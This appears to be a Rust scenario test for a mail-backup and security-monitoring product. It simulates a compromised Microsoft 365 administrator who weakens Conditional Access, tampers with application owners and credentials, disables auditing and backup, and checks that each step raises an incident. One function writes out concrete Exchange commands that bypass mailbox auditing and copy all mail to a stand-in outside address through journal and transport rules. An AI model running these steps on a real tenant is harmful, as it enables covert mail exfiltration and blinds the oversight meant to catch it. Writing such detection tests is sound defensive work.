//! Somebody with an administrator's account switches off what protects the tenant, before he comes.

use mailkeep_model::Function;
use mailkeep_sentry::{IncidentKind, Leg};
use mailkeep_service::{CanaryOutcome, Looked};
use serde_json::json;

use super::{
    acts::{accepted, failed, titles},
    report::Report,
    site::Site,
};
use crate::{exit::Failure, output::Output};

/// He has his own reads of mail left out of the audit log, and copies of mail sent to himself.
async fn hide_in_exchange(
    site: &Site,
    report: &mut Report,
    output: &Output,
) -> Result<(), Failure> {
    output.note("in Exchange he bypasses the audit, and has mail copied");
    let him = site.mailbox(0)?;
    let bypass = json!({ "Identity": him, "AuditBypassEnabled": "True" });
    site.exchange("Set-MailboxAuditBypassAssociation", &bypass).await?;
    let journal = json!({ "Name": "Archive", "JournalEmailAddress": "box@elsewhere.example" });
    site.exchange("New-JournalRule", &journal).await?;
    let rule = json!({ "Name": "Signature", "BlindCopyTo": "box@elsewhere.example" });
    site.exchange("New-TransportRule", &rule).await?;
    report.at("the audit is bypassed, and mail is copied");
    let found = site.reconcile().await?;
    report.at("the alarm from Exchange's log");
    for (what, kind, subject) in [
        (
            "that the audit is bypassed is an incident, with who did it and what was before",
            IncidentKind::ProtectionOff,
            "audit_bypass",
        ),
        ("a journal rule is one, with who added it", IncidentKind::ExchangeChanged, "journal_rule"),
        (
            "a transport rule is one, with who added it",
            IncidentKind::ExchangeChanged,
            "transport_rule",
        ),
    ] {
        let incidents = found.incidents.iter().map(|(_, incident)| incident);
        let of_kind =
            |one: &&mailkeep_sentry::Incident| one.kind == kind && one.subject.starts_with(subject);
        let evidence = incidents.filter(of_kind).flat_map(|one| &one.evidence).next();
        report.expect(
            what,
            evidence.is_some_and(|one| {
                one.address == Some(super::acts::elsewhere())
                    && one.text.contains("admin@")
                    && one.text.contains("; before: ")
            }),
            evidence.map_or_else(|| "nothing".to_owned(), |one| one.text.clone()),
        );
    }
    Ok(())
}

/// What is there before the day begins.
pub(super) async fn prepare(site: &Site, output: &Output) -> Result<(), Failure> {
    output.note("the applications are locked to our addresses by Conditional Access");
    site.lock("enabled").await
}

pub(super) async fn play(site: &Site, report: &mut Report, output: &Output) -> Result<(), Failure> {
    site.add(Function::Prober, &["Mail.Send"]).await?;
    let canary = site.canary(time::Duration::minutes(5), output).await?;
    report.expect(
        "a canary comes through: backed up and inspected",
        canary.outcome == CanaryOutcome::CameThrough,
        canary.note,
    );
    let mut thief = site.thief()?;
    let let_in = thief.is_let_in().await.map_err(failed)?;
    report.expect(
        "while it is locked, the stolen key is refused from elsewhere",
        !let_in,
        accepted(let_in),
    );
    let attempted = site.reconcile().await?;
    report.expect(
        "the attempt is seen",
        !attempted.incidents.is_empty(),
        titles(attempted.incidents.iter().map(|(_, incident)| incident)),
    );

    output.note("an administrator whom he owns switches protection off");
    report.begin("the lock is set to report-only");
    site.lock("enabledForReportingButNotEnforced").await?;
    let steward = site.registered[&Function::Steward].service_principal_id.clone();
    let change = json!({ "remove_owner": steward, "add_password": "monitoring" });
    site.administrator_changes(Function::Reader, &change).await?;
    report.at("the steward is no owner any more, and there is a password");
    let let_in = thief.get_token().await.map(|()| true).map_err(failed)?;
    report.expect(
        "without the lock the stolen key works: what follows is worth being seen",
        let_in,
        accepted(let_in),
    );

    let looked = site.look().await?;
    report.at("the alarm");
    let kinds = |looked: &Looked, kind: IncidentKind| {
        looked.incidents.iter().filter(|(_, incident)| incident.kind == kind).count()
    };
    report.expect(
        "each is an incident: the lock, the owner, the password",
        kinds(&looked, IncidentKind::ProtectionOff) >= 2
            && kinds(&looked, IncidentKind::Tampered) == 1,
        titles(looked.incidents.iter().map(|(_, incident)| incident)),
    );
    let lock = looked.posture.deviations.iter().find(|one| one.subject == "addresses");
    report.expect(
        "the incident says what was there before, and what is there now",
        lock.is_some_and(|one| one.before.is_some()),
        lock.map_or_else(|| "nothing".to_owned(), mailkeep_sentry::Deviation::text),
    );
    let named = looked.incidents.iter().flat_map(|(_, incident)| &incident.evidence);
    let named = named.filter(|one| one.text.contains("admin@")).count();
    report.expect("and who did it", named > 0, format!("{named} entries of the directory's log"));

    output.note("the administrators set it right");
    site.lock("enabled").await?;
    let change = json!({ "add_owner": steward });
    site.administrator_changes(Function::Reader, &change).await?;
    let let_in = thief.is_let_in().await.map_err(failed)?;
    report.expect("the stolen key is refused again", !let_in, accepted(let_in));
    let looked = site.look().await?;
    report.at("set right");
    report.expect(
        "what was set right is no alarm any more, and the password still is one",
        kinds(&looked, IncidentKind::ProtectionOff) == 0
            && kinds(&looked, IncidentKind::Tampered) == 1,
        titles(looked.incidents.iter().map(|(_, incident)| incident)),
    );

    hide_in_exchange(site, report, output).await?;

    output.note("then he switches the auditor off, so that nobody looks");
    let change = json!({ "enabled": false });
    site.administrator_changes(Function::Auditor, &change).await?;
    let refused = site.look().await.err();
    let incidents = site.service.incidents(Some(&site.tenant)).await?;
    let blinded = incidents.iter().find(|one| one.incident["subject"] == "auditor");
    report.at("that nobody can look is an alarm, too");
    report.expect(
        "that nobody can look any more is an incident",
        refused.is_some() && blinded.is_some(),
        refused.map_or_else(|| "no error".to_owned(), |failure| failure.message.clone()),
    );

    output.note("and the backup: the one thing that still asks is a canary");
    site.administrator_changes(Function::Reader, &change).await?;
    let canary = site.canary(time::Duration::seconds(5), output).await?;
    report.at("a canary missed its deadline");
    report.expect(
        "a backup that was switched off is noticed by a canary, with the leg that failed",
        canary.outcome == CanaryOutcome::Missed(Leg::NotBackedUp),
        canary.note,
    );
    let key = mailkeep_sentry::canary_incident_key();
    let alarm = site.service.control().incident_of(&site.tenant, &key).await;
    let alarm = alarm.map_err(mailkeep_service::ServiceError::from)?;
    report.expect(
        "and it is an incident that says how the last one did",
        alarm.as_ref().is_some_and(|one| {
            one.closed.is_none() && one.incident.to_string().contains("the last one came through")
        }),
        alarm.map_or_else(|| "nothing".to_owned(), |one| one.kind),
    );
    let change = json!({ "enabled": true });
    site.administrator_changes(Function::Reader, &change).await?;
    let canary = site.canary(time::Duration::minutes(5), output).await?;
    let alarm = site.service.control().incident_of(&site.tenant, &key).await;
    let alarm = alarm.map_err(mailkeep_service::ServiceError::from)?;
    report.at("canaries come through again");
    report.expect(
        "when canaries come through again, that incident ends",
        canary.outcome == CanaryOutcome::CameThrough
            && alarm.as_ref().is_some_and(|one| one.closed.is_some()),
        alarm.and_then(|one| one.note).unwrap_or_else(|| "it is open".to_owned()),
    );
    Ok(())
}
